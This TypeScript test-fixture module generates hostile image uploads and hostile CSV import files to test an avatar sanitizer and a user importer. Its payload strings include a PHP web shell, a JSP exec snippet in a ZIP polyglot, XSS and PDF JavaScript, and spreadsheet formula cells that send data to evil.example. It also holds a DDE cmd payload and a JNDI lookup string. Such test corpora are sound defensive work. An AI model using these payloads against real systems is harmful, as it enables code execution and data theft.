import sharp from 'sharp';
import fc from 'fast-check';

/**
 * Deterministic corpora of hostile uploads (avatars) and hostile CSV files (user import), built in the test
 * run: images are made with sharp and then mutated byte-wise; CSV files are hand-written classics plus
 * fast-check-generated files over a hostile cell alphabet.
 */

// ---------------------------------------------------------------- bytes helpers

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = (CRC_TABLE[(c ^ b) & 0xff] as number) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
export function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
/** Inserts a chunk right before IEND (the last 12 bytes). */
const beforeIend = (png: Buffer, chunk: Buffer) => Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);
/** Rewrites IHDR's width/height (with a valid CRC): a header that promises a huge or wrong image. */
export function patchIhdr(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
  return out;
}
/** A JPEG COM segment right after SOI (inside the container, so it passes the container check). */
function jpegComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text, 'latin1');
  const seg = Buffer.alloc(4);
  seg.writeUInt16BE(0xfffe, 0);
  seg.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), seg, body, jpeg.subarray(2)]);
}
/** xorshift32: deterministic noise. */
function noise(n: number, seed = 0x1234567): Buffer {
  const out = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

/** Strings that must never survive into a stored avatar. */
export const PAYLOAD_MARKERS = ['<script', '<?php', 'PK\u0003\u0004', '<html', '<svg', 'onload=', 'GPSLatitude', 'secsuite-exif-marker', 'MZ\u0090'];
const HTML = '<html><body><script>alert(document.cookie)</script></body></html>';
const PHP = '<?php system($_GET["c"]); ?>';
const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(26), Buffer.from('evil.jsp<%Runtime.getRuntime().exec(request.getParameter("c"));%>')]);

export type Expect = 'refuse' | 'accept' | 'either';
export interface UploadCase {
  name: string;
  bytes: Buffer;
  filename: string;
  type: string;
  field?: string;
  expect: Expect;
}

const solid = (w: number, h: number, alpha = false) => sharp({ create: { width: w, height: h, channels: alpha ? 4 : 3, background: { r: 200, g: 30, b: 90, alpha: 0.5 } } });

export async function avatarCorpus(): Promise<UploadCase[]> {
  const bases: { name: string; bytes: Buffer; kind: 'png' | 'jpeg' }[] = [
    { name: 'png-rgb-16', bytes: await solid(16, 16).png().toBuffer(), kind: 'png' },
    { name: 'png-rgba-32', bytes: await solid(32, 32, true).png().toBuffer(), kind: 'png' },
    { name: 'png-palette', bytes: await solid(8, 8).png({ palette: true }).toBuffer(), kind: 'png' },
    { name: 'png-grey16', bytes: await solid(12, 12).toColourspace('grey16').png().toBuffer(), kind: 'png' },
    { name: 'png-interlaced', bytes: await solid(20, 10).png({ progressive: true }).toBuffer(), kind: 'png' },
    { name: 'png-text-chunk', bytes: beforeIend(await solid(10, 10).png().toBuffer(), pngChunk('tEXt', Buffer.from(`Comment\u0000${HTML}`, 'latin1'))), kind: 'png' },
    { name: 'png-1200x600', bytes: await solid(1200, 600).png().toBuffer(), kind: 'png' },
    { name: 'jpeg-40x20', bytes: await solid(40, 20).jpeg().toBuffer(), kind: 'jpeg' },
    { name: 'jpeg-progressive', bytes: await solid(30, 30).jpeg({ progressive: true }).toBuffer(), kind: 'jpeg' },
    {
      name: 'jpeg-exif-gps',
      bytes: await solid(24, 24)
        .jpeg()
        .withExif({ IFD0: { ImageDescription: 'secsuite-exif-marker', Copyright: HTML }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '47/1 22/1 1234/100', GPSLongitudeRef: 'E', GPSLongitude: '8/1 32/1 0/1' } })
        .toBuffer(),
      kind: 'jpeg',
    },
    { name: 'jpeg-comment-html', bytes: jpegComment(await solid(16, 16).jpeg().toBuffer(), HTML), kind: 'jpeg' },
  ];
  const cases: UploadCase[] = [];
  for (const b of bases) {
    const ext = b.kind === 'png' ? 'png' : 'jpg';
    const mime = b.kind === 'png' ? 'image/png' : 'image/jpeg';
    const add = (what: string, bytes: Buffer, expect: Expect, filename = `a.${ext}`, type = mime, field?: string) =>
      cases.push({ name: `${b.name}: ${what}`, bytes, filename, type, expect, ...(field ? { field } : {}) });
    add('as is', b.bytes, 'accept');
    add('named .gif / image/gif', b.bytes, 'accept', 'a.gif', 'image/gif');
    add('named .svg / image/svg+xml', b.bytes, 'accept', 'x.svg', 'image/svg+xml');
    add('named ../../etc/passwd / text/html', b.bytes, 'accept', '../../etc/passwd', 'text/html');
    add('named a.php.png / application/x-php', b.bytes, 'accept', 'a.php.png', 'application/x-php');
    add('named a.exe / application/x-msdownload', b.bytes, 'accept', 'a.exe', 'application/x-msdownload');
    add('trailing HTML', Buffer.concat([b.bytes, Buffer.from(HTML)]), 'refuse');
    add('trailing PHP', Buffer.concat([b.bytes, Buffer.from(PHP)]), 'refuse');
    add('trailing ZIP (polyglot)', Buffer.concat([b.bytes, ZIP]), 'refuse');
    add('trailing byte', Buffer.concat([b.bytes, Buffer.from('A')]), 'refuse');
    add('trailing zero padding', Buffer.concat([b.bytes, Buffer.alloc(16)]), b.kind === 'jpeg' ? 'either' : 'refuse');
    add('twice concatenated', Buffer.concat([b.bytes, b.bytes]), 'refuse');
    add('trailing HTML that ends with a copied end marker', Buffer.concat([b.bytes, Buffer.from(HTML), b.bytes.subarray(b.kind === 'png' ? -12 : -2)]), 'refuse');
    add('truncated by 1 byte', b.bytes.subarray(0, b.bytes.length - 1), 'refuse');
    add('truncated to 90%', b.bytes.subarray(0, Math.floor(b.bytes.length * 0.9)), 'refuse');
    add('truncated to 50%', b.bytes.subarray(0, Math.floor(b.bytes.length / 2)), 'refuse');
    add('truncated to the magic', b.bytes.subarray(0, 8), 'refuse');
    add('first byte changed', Buffer.concat([Buffer.from([0x00]), b.bytes.subarray(1)]), 'refuse');
    add('GIF89a prefix', Buffer.concat([Buffer.from('GIF89a'), b.bytes]), 'refuse');
    add('<svg> prefix', Buffer.concat([Buffer.from('<svg onload=alert(1)>'), b.bytes]), 'refuse');
    const flipped = Buffer.from(b.bytes);
    const mid = Math.floor(flipped.length / 2);
    for (let i = mid; i < Math.min(flipped.length - 16, mid + 24); i++) flipped[i] = (flipped[i] as number) ^ 0xa5;
    add('corrupted middle', flipped, 'either');
    add('wrong multipart field', b.bytes, 'refuse', `a.${ext}`, mime, 'file');
    if (b.kind === 'png') {
      add('IHDR says 100000x100000 (bomb header)', patchIhdr(b.bytes, 100_000, 100_000), 'refuse');
      add('IHDR says 1201x600', patchIhdr(b.bytes, 1201, 600), 'refuse');
      add('IHDR says 0x0', patchIhdr(b.bytes, 0, 0), 'refuse');
    }
  }

  const special = (name: string, bytes: Buffer, expect: Expect, filename = 'a.png', type = 'image/png') => cases.push({ name, bytes, filename, type, expect });
  special('zero bytes', Buffer.alloc(0), 'refuse');
  special('one byte', Buffer.from([0x89]), 'refuse');
  special('PNG magic only', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'refuse');
  special('JPEG SOI+EOI only', Buffer.from([0xff, 0xd8, 0xff, 0xd9]), 'refuse', 'a.jpg', 'image/jpeg');
  special('SVG with script', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`), 'refuse', 'a.svg', 'image/svg+xml');
  special('SVG named .png', Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>alert(1)</script></svg>`), 'refuse');
  special('SVG with foreignObject HTML', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${HTML}</body></foreignObject></svg>`), 'refuse');
  special('HTML page', Buffer.from(HTML), 'refuse', 'a.html', 'text/html');
  special('HTML named .jpg', Buffer.from(HTML), 'refuse', 'a.jpg', 'image/jpeg');
  special('PHP named .png', Buffer.from(PHP), 'refuse');
  special('GIF 1x1', Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64'), 'refuse', 'a.gif', 'image/gif');
  special('GIF with trailing script (GIFAR-like)', Buffer.concat([Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64'), Buffer.from(`*/=alert(1)//${HTML}`), ZIP]), 'refuse', 'a.gif', 'image/gif');
  special('GIF named .png', await solid(8, 8).gif().toBuffer(), 'refuse');
  special('WebP', await solid(8, 8).webp().toBuffer(), 'refuse', 'a.webp', 'image/webp');
  special('TIFF', await solid(8, 8).tiff().toBuffer(), 'refuse', 'a.tif', 'image/tiff');
  special('AVIF/HEIF', await solid(8, 8).avif().toBuffer().catch(() => Buffer.from('ftypavif')), 'refuse', 'a.avif', 'image/avif');
  special('BMP header', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), 'refuse', 'a.bmp', 'image/bmp');
  special('ICO header', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(40)]), 'refuse', 'a.ico', 'image/x-icon');
  special('PDF', Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'), 'refuse', 'a.pdf', 'application/pdf');
  special('ZIP', ZIP, 'refuse', 'a.zip', 'application/zip');
  special('PE executable header', Buffer.concat([Buffer.from('MZ\u0090\u0000', 'latin1'), noise(200)]), 'refuse', 'a.exe', 'application/octet-stream');
  special('ELF', Buffer.concat([Buffer.from('\u007fELF', 'latin1'), noise(200)]), 'refuse', 'a.so', 'application/octet-stream');
  special('random bytes', noise(4096, 99), 'refuse');
  special('2000x1000 JPEG (too wide)', await solid(2000, 1000).jpeg().toBuffer(), 'refuse', 'a.jpg', 'image/jpeg');
  special('1201x600 PNG', await solid(1201, 600).png().toBuffer(), 'refuse');
  special('1200x601 PNG', await solid(1200, 601).png().toBuffer(), 'refuse');
  special('600x1200 PNG', await solid(600, 1200).png().toBuffer(), 'refuse');
  special('600x1200 JPEG with EXIF orientation 6 (shown 1200x600)', await solid(600, 1200).jpeg().withMetadata({ orientation: 6 }).toBuffer(), 'accept', 'a.jpg', 'image/jpeg');
  special('1200x600 JPEG with EXIF orientation 6 (shown 600x1200)', await solid(1200, 600).jpeg().withMetadata({ orientation: 6 }).toBuffer(), 'refuse', 'a.jpg', 'image/jpeg');
  special('4000x4000 PNG (decompression bomb, small file)', await solid(4000, 4000).png({ compressionLevel: 9 }).toBuffer(), 'refuse');
  special('over 2 MB of PNG noise', await sharp(noise(1100 * 600 * 4, 7), { raw: { width: 1100, height: 600, channels: 4 } }).png({ compressionLevel: 0 }).toBuffer(), 'refuse');
  special('PNG with a 1 MB zTXt chunk', beforeIend(await solid(10, 10).png().toBuffer(), pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\u0000\u0000', 'latin1'), Buffer.alloc(1024 * 1024, 0x41)]))), 'either');
  special('PNG with an unknown critical chunk', beforeIend(await solid(10, 10).png().toBuffer(), pngChunk('EVIL', Buffer.from(HTML))), 'either');
  return cases;
}

// ---------------------------------------------------------------- CSV

export interface CsvCase {
  name: string;
  bytes: Buffer;
}
const HEADER = 'email,first_name,last_name,locale,auth_type,provider,technical,phone';
/** Cells a spreadsheet might run as a formula, in any locale or after trimming/normalizing. */
export const FORMULA_CELLS = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =1+1', '\u00a0=1+1', '\u3000=1+1', '＝1+1', '﹦1+1', '＋1', '－1', '＠SUM(A1)', '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")", '=WEBSERVICE("https://evil.example")', 'DDE("cmd";"/C calc";"!A0")', '=1\n+1',
  "'=1+1", '"=1+1"', '=', '+', '-', '@', '\u200b=1+1', '\ufeff=1+1', '%0A=1', '\n=1+1', ';=1+1', '=-1', '-=1', '+-1', '@@1', '{=1+1}', '\u0009@x', '\u000b=1',
];
const HOSTILE_CELLS = [
  ...FORMULA_CELLS, '', ' ', '"', '""', '"""', "'", ',', ';', '\r\n', '\n', '\r', '\u2028', '\u0000', 'a\u0000b', '\ufffd', '\ud83d\ude00', 'Ω≈ç√', 'Müller', 'Straße', 'Łódź', '日本語', 'עברית', '\u202egnp.exe',
  '<script>alert(1)</script>', "' OR 1=1 --", '../../etc/passwd', '${jndi:ldap://evil.example/a}', 'x'.repeat(101), 'y'.repeat(5000),
];

function csvQuote(cell: string): string {
  return /[",;\r\n]/.test(cell) || cell !== cell.trim() ? `"${cell.replace(/"/g, '""')}"` : cell;
}
const line = (cells: string[], sep = ',') => cells.map(csvQuote).join(sep);

export function csvCorpus(tag: string): CsvCase[] {
  let n = 0;
  const email = () => `csv.${tag}.${++n}@example.com`;
  const row = (o: Partial<Record<'email' | 'first_name' | 'last_name' | 'locale' | 'auth_type' | 'provider' | 'technical' | 'phone', string>> = {}) =>
    [o.email ?? email(), o.first_name ?? 'Anna', o.last_name ?? 'Muster', o.locale ?? 'de', o.auth_type ?? 'CREDENTIALS', o.provider ?? '', o.technical ?? 'false', o.phone ?? ''];
  const file = (rows: string[][], sep = ',', eol = '\n') => Buffer.from([HEADER.replace(/,/g, sep), ...rows.map((r) => line(r, sep))].join(eol) + eol, 'utf8');
  const cases: CsvCase[] = [];
  const add = (name: string, bytes: Buffer) => cases.push({ name, bytes });

  // formula triggers in every text column (one file per trigger: names, e-mail local part, phone, provider, locale)
  FORMULA_CELLS.forEach((f, i) => {
    add(`formula in names #${i}`, file([row({ first_name: f, last_name: `${f}x` }), row({ first_name: `x${f}`, last_name: f.trim() || 'z' })]));
    add(`formula in other columns #${i}`, file([row({ email: `${f}@example.com` }), row({ phone: f }), row({ locale: f }), row({ auth_type: 'SSO', provider: f }), row({ technical: f })]));
  });
  add('formula with ; separator', file([row({ first_name: '=1+1', last_name: '@x' })], ';'));
  add('formula with CRLF', file([row({ first_name: '+1', last_name: '-1' })], ',', '\r\n'));
  add('formula with bare CR', file([row({ first_name: '=2', last_name: '=3' })], ',', '\r'));
  // huge fields
  add('huge first name (100k)', file([row({ first_name: 'A'.repeat(100_000) })]));
  add('1 MB cell', file([row({ last_name: 'B'.repeat(1024 * 1024) })]));
  add('huge e-mail', file([row({ email: `${'c'.repeat(5000)}@example.com` })]));
  // NUL
  add('NUL in a cell', file([row({ first_name: 'a\u0000b' })]));
  add('NUL in the header', Buffer.from(`email\u0000,first_name,last_name,locale,auth_type\n${email()},A,B,en,CREDENTIALS\n`));
  add('NUL-only file', Buffer.alloc(64));
  // BOMs and encodings
  add('UTF-8 BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), file([row({ first_name: 'Zoë' })])]));
  add('double UTF-8 BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), file([row()])]));
  add('UTF-16LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(file([row({ first_name: 'Jürgen' })]).toString('utf8'), 'utf16le')]));
  add('UTF-16BE with BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(file([row()]).toString('utf8'), 'utf16le').swap16()]));
  add('UTF-32LE BOM', Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x00]), file([row()])]));
  add('Latin-1', Buffer.from(file([row({ first_name: 'Jürgen', last_name: 'Müller-Lüdenscheidt' }), row({ first_name: 'François', last_name: 'Façade' })]).toString('utf8'), 'latin1'));
  add('Windows-1252 smart quotes and euro', Buffer.concat([Buffer.from(`${HEADER}\n${email()},`), Buffer.from([0x93, 0x41, 0x94, 0x2c, 0x80, 0x42, 0x2c]), Buffer.from('en,CREDENTIALS,,false,\n')]));
  add('mixed UTF-8 and Latin-1 lines', Buffer.concat([Buffer.from(`${HEADER}\n${line(row({ first_name: 'Zoë' }))}\n`, 'utf8'), Buffer.from(`${line(row({ first_name: 'Zoë' }))}\n`, 'latin1')]));
  add('invalid UTF-8 sequence', Buffer.concat([Buffer.from(`${HEADER}\n${email()},`), Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), Buffer.from(',X,en,CREDENTIALS,,false,\n')]));
  add('overlong UTF-8 slash', Buffer.concat([Buffer.from(`${HEADER}\n${email()},`), Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xaf]), Buffer.from(',X,en,CREDENTIALS,,false,\n')]));
  add('UTF-8 encoded surrogate (CESU)', Buffer.concat([Buffer.from(`${HEADER}\n${email()},`), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(',X,en,CREDENTIALS,,false,\n')]));
  // quotes
  add('unbalanced quote', Buffer.from(`${HEADER}\n${email()},"Anna,Muster,de,CREDENTIALS,,false,\n`));
  add('quote inside unquoted field', Buffer.from(`${HEADER}\n${email()},An"na,Muster,de,CREDENTIALS,,false,\n`));
  add('quote at EOF', Buffer.from(`${HEADER}\n${email()},Anna,Muster,de,CREDENTIALS,,false,"`));
  add('escaped quotes', file([row({ first_name: 'An""na', last_name: '"Muster"' })]));
  add('quoted newline in a field', file([row({ first_name: 'Anna\nMaria', last_name: 'Line\r\nBreak' })]));
  // CR/LF injections
  add('CRLF injection: extra row inside a quoted cell', file([row({ first_name: `Anna"\r\n${email()},=1+1,x,en,CREDENTIALS,,false,\r\n"` })]));
  add('bare CR line endings', file([row(), row()], ',', '\r'));
  add('mixed line endings', Buffer.from(`${HEADER}\r\n${line(row())}\n${line(row())}\r${line(row())}\r\n`));
  add('U+2028 in cells', file([row({ first_name: 'A\u2028B', last_name: 'C\u2029D' })]));
  // columns
  add('too many columns in the header (10k)', Buffer.from(`${HEADER},${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',')}\n${line(row())}\n`));
  add('row with 10k cells', Buffer.from(`${HEADER}\n${line([...row(), ...Array.from({ length: 10_000 }, () => '=1')])}\n`));
  add('duplicate header names', Buffer.from(`email,email,first_name,first_name,last_name,locale,auth_type\n${email()},=1@x.com,A,=B,C,en,CREDENTIALS\n`));
  add('empty header names', Buffer.from(`,,,,\n${email()},A,B,en,CREDENTIALS\n`));
  add('header only', Buffer.from(`${HEADER}\n`));
  add('no header', Buffer.from(`${line(row())}\n`));
  add('missing required columns', Buffer.from(`email,first_name\n${email()},Anna\n`));
  add('empty file', Buffer.alloc(0));
  add('only newlines', Buffer.from('\n\n\r\n\r'));
  add('tab separated', file([row()], '\t'));
  add('pipe separated', file([row()], '|'));
  add('header with formula names', Buffer.from(`=email,+first_name,last_name,locale,auth_type\n${email()},A,B,en,CREDENTIALS\n`));
  add('header upper case with spaces', Buffer.from(` EMAIL , First_Name ,LAST_NAME,Locale,AUTH_TYPE\n${email()},=A,B,EN,credentials\n`));
  // 10k rows of garbage (more than the synchronous limit: runs as a job)
  const garbage = fc.sample(fc.array(fc.constantFrom(...HOSTILE_CELLS), { minLength: 1, maxLength: 9 }), { seed: 42, numRuns: 10_000 });
  add('10k rows of garbage', Buffer.from([HEADER, ...garbage.map((cells) => line(cells))].join('\n')));
  add('10k rows of random bytes', Buffer.concat([Buffer.from(`${HEADER}\n`), ...Array.from({ length: 10_000 }, (_, i) => Buffer.concat([noise(24, i + 1).map((b) => (b === 0 ? 1 : b)), Buffer.from('\n')]))]));

  // generated: files whose cells come from the hostile alphabet, around otherwise valid rows
  const cell = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...HOSTILE_CELLS) }, { weight: 1, arbitrary: fc.string({ maxLength: 30 }) }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) });
  const genRow = fc.record({ first_name: cell, last_name: cell, phone: fc.oneof(fc.constant(''), cell), locale: fc.constantFrom('en', 'de', 'fr', 'it', 'EN', '=en', ''), junk: fc.array(cell, { maxLength: 3 }) });
  const genFile = fc.record({ rows: fc.array(genRow, { minLength: 1, maxLength: 6 }), sep: fc.constantFrom(',', ';'), eol: fc.constantFrom('\n', '\r\n', '\r'), bom: fc.boolean() });
  for (const g of fc.sample(genFile, { seed: 0x5ec5, numRuns: 130 })) {
    const body = file(g.rows.map((r) => [...row({ first_name: r.first_name, last_name: r.last_name, phone: r.phone, locale: r.locale }), ...r.junk]), g.sep, g.eol);
    add(`generated #${cases.length}`, g.bom ? Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body]) : body);
  }
  return cases;
}

/**
 * Whether a spreadsheet could run (part of) a cell as a formula: at the start of the value, and after any
 * separator another locale's spreadsheet or a naive reader may split on (, ; TAB | CR LF), skipping spaces and
 * double quotes, the next character is a trigger (= + - @ TAB CR NUL) not preceded by the text marker `'`.
 */
export function canStartFormula(cell: string): boolean {
  for (let i = 0; i <= cell.length; i++) {
    if (i > 0 && !',;\t|\r\n'.includes(cell[i - 1] as string)) continue;
    let j = i;
    while (cell[j] === ' ' || cell[j] === '"') j++;
    const c = cell[j];
    if (c !== undefined && '=+-@\t\r\u0000'.includes(c)) return true;
  }
  return false;
}
